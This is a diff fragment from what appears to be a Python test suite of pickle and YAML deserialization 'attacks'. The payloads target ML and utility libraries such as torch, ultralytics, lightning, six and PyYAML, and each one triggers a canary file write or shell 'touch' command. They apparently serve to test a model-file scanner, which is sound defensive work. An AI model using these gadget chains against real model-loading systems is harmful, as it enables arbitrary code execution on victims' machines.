+            param_groups=listed(mapping(params=listed(integer(1)))),
+            state=armed("get", with_two(canary)),
+        ),
+    ),
+    "accelerated_optimizer": stated(
+        "accelerate.optimizer",
+        "AcceleratedOptimizer",
+        lambda canary: mapping(scaler=TRUE, optimizer=armed("step", without_arguments(canary))),
+    ),
+    "teacher_hooks": stated(
+        "ultralytics.nn.distill_model",
+        "DistillationModel",
+        lambda canary: mapping(
+            feats_idx=listed(integer(0)),
+            teacher_feats_idx=EMPTY_LIST,
+            teacher_model=NONE,
+            _register_feature_hooks=without_arguments(canary),
+        ),
+    ),
+    "quantized_weights": stated(
+        "torch.ao.nn.quantized.modules.conv",
+        "Conv2d",
+        lambda canary: CARRIERS["namespace"] + mapping(__getitem__=with_anything(canary)) + BUILD,
+    ),
+    "hash_of_generation": Attack(
+        "A1",
+        zipped(
+            lambda canary: EMPTY_DICT
+            + name("transformers.generation.configuration_utils", "GenerationConfig") + EMPTY_TUPLE + NEWOBJ
+            + mapping(to_json_string=without_arguments(canary)) + BUILD + NONE + SETITEM
+        ),
+    ),
+    "hash_of_metric": Attack(
+        "A1",
+        zipped(
+            lambda canary: EMPTY_SET + MARK
+            + name("torchmetrics.text.rouge", "ROUGEScore") + EMPTY_TUPLE + NEWOBJ
+            + mapping(_wrap_update=with_anything(canary)) + BUILD + ADDITEMS
+        ),
+    ),
+    "slot_setter": Attack(
+        "A1",
+        zipped(
+            lambda canary: name("lightning.pytorch.strategies.single_device", "SingleDeviceStrategy") + EMPTY_TUPLE + NEWOBJ
+            + items(NONE, mapping(optimizers=sequence_over(without_arguments(canary)))) + BUILD
+        ),
+    ),
+    "slot_setter_of_trainer": Attack(
+        "A1",
+        zipped(
+            lambda canary: name("lightning.pytorch.trainer.trainer", "Trainer") + EMPTY_TUPLE + NEWOBJ
+            + mapping(_accelerator_connector=CARRIERS["namespace"] + mapping(strategy=STRATEGY) + BUILD) + BUILD
+            + items(NONE, mapping(optimizers=sequence_over(without_arguments(canary)))) + BUILD
+        ),
+    ),
+}  # fmt: skip
+
+
+def stage(canary: str) -> bytes:
+    """``teardown(stage=…)`` by keyword, which only a function that takes it will do."""
+    return with_anything(canary)
+
+
+AFTERWARDS: Mapping[str, Attack] = {
+    **{
+        f"model_{method}": Attack("A2", yolo(**{method: without_arguments}), loader="yolo")
+        for method in ("float", "eval", "modules")
+    },
+    "model_to": Attack("A2", yolo(to=with_anything), loader="yolo"),
+    "model_end2end": Attack("A2", yolo(fuse=without_arguments), loader="yolo"),
+    "model_child_apply": Attack("A2", yolo(_apply=with_anything), loader="yolo"),
+    "train_args_keys": Attack(
+        "A2",
+        lambda canary: saved(
+            ultralytics_checkpoint(train_args=Raw(armed("keys", without_arguments(canary))), ema=detector())
+        ),
+        loader="yolo",
+    ),
+    "checkpoint_get": Attack(
+        "A2",
+        lambda canary: torch_zip(pickled(state_dict() + POP + armed("model", without_arguments(canary)))),
+        loader="yolo",
+    ),
+    "yaml_activation": Attack(
+        "A2",
+        yolo(yaml=lambda canary: layers(layer("nn.Identity"), activation=expression(canary))),
+        loader="build",
+    ),
+    "yaml_layer_loads": Attack(
+        "A2",
+        yolo(yaml=lambda canary: layers(layer("torch_safe_load", text(canary + ".pt")))),
+        loader="build",
+    ),
+    "yaml_layer_opens": Attack(
+        "A2",
+        yolo(yaml=lambda canary: layers(layer("YAML", text(canary)))),
+        loader="build",
+    ),
+}
+
+
+def called(module: str, qualified: str, *arguments: Callable[[str], bytes]) -> Attack:
+    return calling(module, qualified, *arguments)
 
 
 def keyed(canary: str) -> bytes:
@@ -875,80 +1097,83 @@ PACKAGES: Mapping[str, Attack] = {
     ),
     "sympy_s": called("sympy", "S", expression),
     "sympy_finite_set": called("sympy", "FiniteSet", expression),
-    "sympy_equation": called("sympy", "Eq", expression, expression),
+    "sympy_rational": called("sympy", "Rational", expression),
+    "sympy_interval": called("sympy", "Interval", expression, expression),
     "sympy_matrix": called("sympy", "Matrix", lambda canary: listed(expression(canary))),
     "sympy_lambda": called("sympy", "Lambda", just(text("x")), expression),
     "sympy_poly": called("sympy", "Poly", expression),
     "cv2_video_writer": called("cv2", "FileStorage", path, just(integer(1))),
     "click_edit": called("click", "edit", just(NONE), lambda canary: text("touch " + shlex.quote(canary) + " #")),
-    "watchfiles_import": called("watchfiles.run", "import_string", just(text("os.system"))),
-    "watchfiles_process": called("watchfiles.run", "import_module", just(text("antigravity")), must_run=False),
+    "watchfiles_import": Attack(
+        "A5", zipped(lambda canary: call(call(name("watchfiles.run", "import_string"), text("os.system")), shell(canary)))
+    ),
+    "watchfiles_run": called("watchfiles.run", "run_function", just(text("os.getcwd"))),
+    "watchfiles_process": called("watchfiles.run", "import_module", just(text("antigravity"))),
     "filelock_file": called("filelock._identity._process", "FileIO", path, just(text("w"))),
     "filelock_lock": Attack(
-        "A5", zipped(lambda canary: call(name("filelock", "FileLock"), path(canary)) + POP + NONE), must_run=False
+        "A5", zipped(lambda canary: call(name("filelock", "FileLock"), path(canary)) + POP + NONE)
     ),
     "fonttools_open": called("fontTools.misc.py23", "open", path, just(text("w"))),
-    "pygments_textio": called("pygments.util", "TextIOWrapper", just(NONE), must_run=False),
+    "pygments_textio": called("pygments.util", "TextIOWrapper", just(NONE)),
     "sorted_key": Attack("A5", zipped(keyed)),
-    "deepdiff_load": called("deepdiff.serialization", "pickle_load", lambda canary: blob(tar_pickle(canary)), must_run=False),
-    "mypy_run": called("mypy.api", "run", lambda canary: listed(text("--junit-xml"), text(canary), text("-c"), text("x=1")), must_run=False),
-    "execnet_gateway": called("execnet.gateway_bootstrap", "bootstrap", must_run=False),
-    "execnet_makegateway": called("execnet", "makegateway", lambda canary: text("popen//python=touch " + canary), must_run=False),
-    "charset_open": called("charset_normalizer", "from_path", path, must_run=False),
-    "send2trash": called("send2trash", "send2trash", just(text("/nonexistent")), must_run=False),
-    "six_getoutput": called("six.moves", "getoutput", shell, must_run=False),
-    "six_exec": called("six", "exec_", lambda canary: text(f"open({canary!r}, 'w').close()"), must_run=False),
-    "six_eval": calling("six", "moves.builtins.eval", expression, must_run=False, spelled=stack_name),
-    "tqdm_main": called("tqdm.cli", "main", must_run=False),
-    "tqdm_file": called("tqdm.contrib", "DummyTqdmFile", just(NONE), must_run=False),
-    "torch_cpp": called("torch.utils.cpp_extension", "CppExtension", path, just(EMPTY_LIST), must_run=False),
-    "torch_file_writer": called("torch", "PyTorchFileWriter", path, must_run=False),
+    "deepdiff_load": called("deepdiff.serialization", "pickle_load", lambda canary: blob(tar_pickle(canary))),
+    "mypy_run": called("mypy.api", "run", lambda canary: listed(text("--junit-xml"), text(canary), text("-c"), text("x=1"))),
+    "execnet_gateway": called("execnet.gateway_bootstrap", "bootstrap"),
+    "execnet_makegateway": called("execnet", "makegateway", lambda canary: text(f"popen//python=sh -c 'touch {canary}'")),
+    "charset_open": called("charset_normalizer", "from_path", path),
+    "send2trash": called("send2trash", "send2trash", just(text("/nonexistent"))),
+    "six_getoutput": called("six.moves", "getoutput", shell),
+    "six_exec": called("six", "exec_", lambda canary: text(f"open({canary!r}, 'w').close()")),
+    "six_eval": calling("six", "moves.builtins.eval", expression, spelled=stack_name),
+    "tqdm_main": called("tqdm.cli", "main"),
+    "tqdm_file": called("tqdm.contrib", "DummyTqdmFile", just(NONE)),
+    "torch_cpp": called("torch.utils.cpp_extension", "CppExtension", path, just(EMPTY_LIST)),
+    "torch_file_writer": called("torch", "PyTorchFileWriter", path),
     "torch_file_writer_c": called("torch._C", "PyTorchFileWriter", path),
     "torch_package": called("torch.package", "PackageExporter", path),
-    "torch_package_importer": called("torch.package", "PackageImporter", path, must_run=False),
+    "torch_package_importer": called("torch.package", "PackageImporter", path),
     "torch_graph": called(
         "torch.fx.graph_module",
         "reduce_graph_module",
         lambda canary: mapping(_code=text(f"open({canary!r}, 'w').close()\ndef forward(self): pass")),
         just(text("")),
-        must_run=False,
     ),
     "torch_pytree": called("torch.utils._pytree", "tree_map", just(LOAD), lambda canary: listed(blob(evil(canary)))),
-    "torch_pytree_spec": called("torch.utils._pytree", "TreeSpec", path, just(NONE), just(EMPTY_LIST), must_run=False),
-    "torch_shape_env": called("torch.fx.experimental.symbolic_shapes", "Symbol", expression, must_run=False),
+    "torch_pytree_spec": called("torch.utils._pytree", "TreeSpec", path, just(NONE), just(EMPTY_LIST)),
+    "torch_shape_env": called("torch.fx.experimental.symbolic_shapes", "Symbol", expression),
     "numpy_memmap": called("numpy", "memmap", path, just(text("uint8")), just(text("w+")), just(integer(0)), just(shape_of(1))),
-    "numpy_data_source": called("numpy.lib.npyio", "DataSource", path, must_run=False),
-    "numpy_poly": called("numpy", "poly1d", just(listed(integer(1))), must_run=False),
-    "numpy_fromfile": called("numpy", "fromfile", path, must_run=False),
-    "pil_open": called("PIL.Image", "open", path, must_run=False),
+    "numpy_data_source": called("numpy.lib.npyio", "DataSource", path),
+    "numpy_poly": called("numpy", "poly1d", just(listed(integer(1)))),
+    "numpy_fromfile": called("numpy", "fromfile", path),
+    "pil_open": called("PIL.Image", "open", path),
     "matplotlib_pdf": called("matplotlib.backends.backend_pdf", "PdfFile", path),
-    "polars_context": called("polars", "SQLContext", must_run=False),
-    "jinja_template": called("jinja2", "Template", lambda canary: text("{{ x }}"), must_run=False),
-    "jinja_environment": called("jinja2.bccache", "FileSystemBytecodeCache", path, must_run=False),
-    "typer_launch": called("typer", "Typer", must_run=False),
-    "setuptools_command": called("setuptools", "Extension", path, just(EMPTY_LIST), must_run=False),
-    "ultralytics_yaml": called("ultralytics.utils", "YAML", must_run=False),
-    "ultralytics_model": called("ultralytics", "YOLO", path, must_run=False),
-    "ultralytics_retry": called("ultralytics.utils", "Retry", must_run=False),
+    "polars_context": called("polars", "SQLContext"),
+    "jinja_template": called("jinja2", "Template", lambda canary: text("{{ x }}")),
+    "jinja_environment": called("jinja2.bccache", "FileSystemBytecodeCache", path),
+    "typer_launch": called("typer", "Typer"),
+    "setuptools_command": called("setuptools", "Extension", path, just(EMPTY_LIST)),
+    "ultralytics_yaml": called("ultralytics.utils", "YAML"),
+    "ultralytics_model": called("ultralytics", "YOLO", path),
+    "ultralytics_retry": called("ultralytics.utils", "Retry"),
     "ultralytics_settings": called("ultralytics.utils", "SettingsManager", path),
-    "ultralytics_json": called("ultralytics.utils", "JSONDict", path, must_run=False),
-    "ultralytics_tasks_path": called("ultralytics.nn.tasks", "Path", path, must_run=False),
-    "ultralytics_try_except": called("ultralytics.utils.checks", "check_requirements", just(text("nothing-of-this-name-here")), must_run=False),
-    "transformers_trainer": called("transformers.trainer_utils", "HPSearchBackend", path, must_run=False),
-    "lightning_cli": called("lightning.pytorch.cli", "LightningCLI", must_run=False),
-    "accelerate_menu": called("accelerate.commands.menu", "BulletMenu", must_run=False),
-    "yaml_object": called("yaml", "UnsafeLoader", path, must_run=False),
+    "ultralytics_json": called("ultralytics.utils", "JSONDict", path),
+    "ultralytics_tasks_path": called("ultralytics.nn.tasks", "Path", path),
+    "ultralytics_try_except": called("ultralytics.utils.checks", "check_requirements", just(text("nothing-of-this-name-here"))),
+    "transformers_trainer": called("transformers.trainer_utils", "HPSearchBackend", path),
+    "lightning_cli": called("lightning.pytorch.cli", "LightningCLI"),
+    "accelerate_menu": called("accelerate.commands.menu", "BulletMenu"),
+    "yaml_object": called("yaml", "UnsafeLoader", path),
     "yaml_unsafe": called("yaml", "unsafe_load", lambda canary: text("!!python/object/apply:os.system ['touch " + canary + "']")),
-    "dateutil_open": called("dateutil.tz", "tzfile", path, must_run=False),
-    "networkx_read": called("networkx", "read_gpickle", path, must_run=False),
-    "pip_vendored": called("pip._vendor.distlib.util", "Popen", words, must_run=False),
+    "dateutil_open": called("dateutil.tz", "tzfile", path),
+    "networkx_read": called("networkx", "read_gpickle", path),
+    "pip_vendored": called("pip._vendor.distlib.util", "Popen", words),
     "distutils_spawn": called("setuptools._distutils.spawn", "spawn", words),
     "torch_popen": called("torch.utils.collect_env", "run", shell),
-    "unknown_dotted": calling("pygments.util", "TextIOWrapper.open", path, must_run=False, spelled=stack_name),
-    "unknown_through_capwords": calling("filelock._soft._lease", "Thread", just(NONE), just(LOAD), must_run=False),
-    "unknown_thread_pool": calling("filelock._sqlite._async", "ThreadPoolExecutor", just(integer(1)), just(text("x")), just(LOAD), lambda canary: items(blob(evil(canary))), must_run=False),
-    "unknown_pool": calling("fontTools.diff.diff", "Pool", just(integer(1)), just(LOAD), lambda canary: items(blob(evil(canary))), must_run=False),
-    "unknown_method_type": calling("fontTools.subset", "MethodType", just(LOAD), lambda canary: blob(evil(canary)), must_run=False),
+    "unknown_dotted": calling("pygments.util", "TextIOWrapper.open", path, spelled=stack_name),
+    "unknown_through_capwords": calling("filelock._soft._lease", "Thread", just(NONE), just(LOAD)),
+    "unknown_thread_pool": calling("filelock._sqlite._async", "ThreadPoolExecutor", just(integer(1)), just(text("x")), just(LOAD), lambda canary: items(blob(evil(canary)))),
+    "unknown_pool": calling("fontTools.diff.diff", "Pool", just(integer(1)), just(LOAD), lambda canary: items(blob(evil(canary)))),
+    "unknown_method_type": calling("fontTools.subset", "MethodType", just(LOAD), lambda canary: blob(evil(canary))),
 }
 
 
@@ -962,8 +1187,11 @@ ATTACKS: Mapping[str, Attack] = {
     **dict(instance_methods()),
     **STATES,
     **FORMATS,
+    **ELSEWHERE,
     **DUCKS,
     **BASES,
+    **AFTERWARDS,
+    **FINALIZERS,
     **TRAINERS,
     **READERS,
     **PACKAGES,
